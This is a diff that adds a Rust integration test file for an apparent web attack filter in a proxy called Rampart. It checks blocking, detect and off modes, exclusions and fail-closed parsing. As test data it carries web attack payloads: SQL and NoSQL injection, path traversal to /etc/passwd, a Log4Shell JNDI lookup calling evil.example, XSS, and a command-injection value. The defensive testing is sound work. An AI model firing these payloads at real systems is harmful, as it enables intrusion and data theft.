@@ -1,0 +1,157 @@
+//! The attack filter through the binary: blocked in every location with 403
+//! `attack_detected`, the body forwarded intact when clean, detect-only and off modes,
+//! exclusions, fail-closed bodies, metrics.
+
+use crate::support::upstream::Upstream;
+use crate::support::{Rampart, envelope, plain_client, plaintext_config};
+
+fn config(upstream: &Upstream, route_extra: &str) -> String {
+    plaintext_config(&[upstream.url()], "", "")
+        .replace("path = \"/\"\n", &format!("path = \"/\"\n{route_extra}\n"))
+}
+
+#[tokio::test]
+async fn attacks_are_blocked_in_every_location_and_clean_requests_pass_intact() {
+    let upstream = Upstream::start("a").await;
+    let rampart = Rampart::start(&config(&upstream, ""));
+    let client = plain_client();
+    let url = |path: &str| rampart.plain_url(path);
+
+    let attacks = [
+        client.get(url("/search?q=1%27%20OR%20%271%27%3D%271")),
+        client.get(url("/files/..%252f..%252fetc%252fpasswd")),
+        client
+            .get(url("/"))
+            .header("x-api-version", "${${lower:j}ndi:ldap://evil.example/a}"),
+        client
+            .get(url("/"))
+            .header("cookie", "theme=dark; pref=<script>alert(1)</script>"),
+        client
+            .post(url("/ping"))
+            .header("content-type", "application/x-www-form-urlencoded")
+            .body("host=127.0.0.1%7Cid"),
+        client
+            .post(url("/render"))
+            .header("content-type", "application/json")
+            .body(r#"{"template": {"body": "{{7*7}}"}}"#),
+        client
+            .post(url("/login"))
+            .header("content-type", "application/json")
+            .body(r#"{"user": "admin", "password": {"$ne": null}}"#),
+    ];
+    for attack in attacks {
+        let response = attack.send().await.unwrap();
+        envelope(response, 403, "attack_detected").await;
+    }
+
+    let body =
+        r#"{"message": "I'd like 2 < 3 and 100% cotton -- best price; select the blue one"}"#;
+    let response = client
+        .post(url("/chat?lang=en&q=O%27Reilly"))
+        .header("content-type", "application/json")
+        .body(body)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 200);
+    let echo: serde_json::Value = response.json().await.unwrap();
+    assert_eq!(
+        echo["body"], body,
+        "the inspected body reaches the app unchanged"
+    );
+
+    let metrics = rampart.metrics().await;
+    for family in ["sqli", "lfi", "java", "xss", "rce", "ssti", "nosql"] {
+        assert!(
+            metrics.contains(&format!(
+                "rampart_attack_filter_findings_total{{route=\"/\",family=\"{family}\",action=\"blocked\"}}"
+            )),
+            "{family}: {metrics}"
+        );
+    }
+}
+
+#[tokio::test]
+async fn detect_mode_passes_and_counts_off_mode_skips_and_exclusions_narrow() {
+    let upstream = Upstream::start("a").await;
+    let config = plaintext_config(&[upstream.url()], "", "").replace(
+        "[[route]]\npath = \"/\"\n",
+        r#"[[route]]
+path = "/tuning"
+upstream = "app"
+attack_filter = "detect"
+
+[[route]]
+path = "/raw"
+upstream = "app"
+attack_filter = "off"
+
+[[route]]
+path = "/code"
+upstream = "app"
+attack_filter_exclude = ["body:snippet", "sqli@query:sql"]
+
+[[route]]
+path = "/"
+"#,
+    );
+    let rampart = Rampart::start(&config);
+    let client = plain_client();
+    let probe = "?q=%3Cscript%3Ealert(1)%3C/script%3E";
+    for path in ["/tuning", "/raw"] {
+        let response = client
+            .get(rampart.plain_url(&format!("{path}{probe}")))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(response.status(), 200, "{path}");
+    }
+    let metrics = rampart.metrics().await;
+    assert!(metrics.contains(
+        "rampart_attack_filter_findings_total{route=\"/tuning\",family=\"xss\",action=\"detected\"} 1"
+    ));
+    assert!(!metrics.contains("route=\"/raw\",family"), "{metrics}");
+
+    let excluded = client
+        .post(
+            rampart.plain_url("/code?sql=SELECT%20*%20FROM%20users%20WHERE%20id%3D1%20OR%201%3D1"),
+        )
+        .header("content-type", "application/json")
+        .body(r#"{"snippet": "<script>document.cookie</script>", "title": "notes"}"#)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(excluded.status(), 200);
+    let still_checked = client
+        .post(rampart.plain_url("/code"))
+        .header("content-type", "application/json")
+        .body(r#"{"snippet": "ok", "title": "<script>alert(1)</script>"}"#)
+        .send()
+        .await
+        .unwrap();
+    envelope(still_checked, 403, "attack_detected").await;
+}
+
+#[tokio::test]
+async fn bodies_the_filter_cannot_parse_are_refused() {
+    let upstream = Upstream::start("a").await;
+    let rampart = Rampart::start(&config(&upstream, ""));
+    let response = plain_client()
+        .post(rampart.plain_url("/api"))
+        .header("content-type", "application/json")
+        .body("{\"message\": ")
+        .send()
+        .await
+        .unwrap();
+    let body = envelope(response, 400, "invalid_request").await;
+    assert!(body["message"].as_str().unwrap().contains("JSON"), "{body}");
+    // Binary types are not read as text, and pass untouched.
+    let response = plain_client()
+        .post(rampart.plain_url("/upload"))
+        .header("content-type", "application/octet-stream")
+        .body(vec![0u8, 159, 146, 150, b'<', b's'])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 200);
+}
